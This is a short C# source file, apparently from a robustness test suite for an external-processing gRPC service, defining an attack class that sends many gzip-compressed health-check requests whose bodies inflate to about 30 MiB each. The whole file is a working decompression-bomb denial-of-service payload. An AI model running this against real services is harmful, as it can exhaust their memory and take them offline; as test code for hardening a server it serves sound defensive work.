using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.Health;

/// <summary>Health checks of 30 MiB that hold nothing anybody knows.</summary>
internal sealed class HealthBodies : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target) => target.OnManyAsync(4, async peer =>
    {
        byte[] compressed = Requests.Framed(Requests.Gzip(((ReadOnlySpan<byte>)[0x78, 1]).Times(15 << 20)), compressed: true);
        for (int i = 0; i < target.Count(4, 50) && !peer.Gone; i++)
        {
            int stream = await peer.OpenAsync("/grpc.health.v1.Health/Check", ("grpc-encoding", "gzip"));
            await peer.SendAsync(stream, compressed, endStream: true);
        }
    });
}
